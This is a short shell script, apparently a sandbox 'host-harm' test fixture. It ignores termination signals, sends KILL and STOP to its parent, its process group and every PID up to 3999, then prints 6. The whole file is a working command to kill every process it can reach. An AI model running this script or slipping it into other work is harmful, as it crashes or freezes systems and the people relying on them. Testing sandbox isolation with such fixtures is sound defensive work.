# host-harm; alive survivors canary; signals whatever has a number
trap '' TERM INT HUP
for s in KILL STOP; do
  kill -$s $PPID -$PPID -1
  for ((p = 2; p < 4000; p++)); do [ $p != $$ ] && kill -$s $p; done
done 2>/dev/null
echo 6
